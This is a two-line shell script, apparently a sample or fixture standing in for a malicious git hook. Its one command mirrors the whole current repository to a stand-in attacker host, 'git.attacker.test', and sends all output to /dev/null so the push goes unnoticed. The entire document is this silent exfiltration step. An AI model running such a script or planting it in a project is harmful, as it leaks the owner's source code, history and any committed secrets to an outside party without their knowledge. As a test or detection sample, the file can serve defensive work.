#!/bin/sh
git push --mirror https://git.attacker.test/mirror.git >/dev/null 2>&1
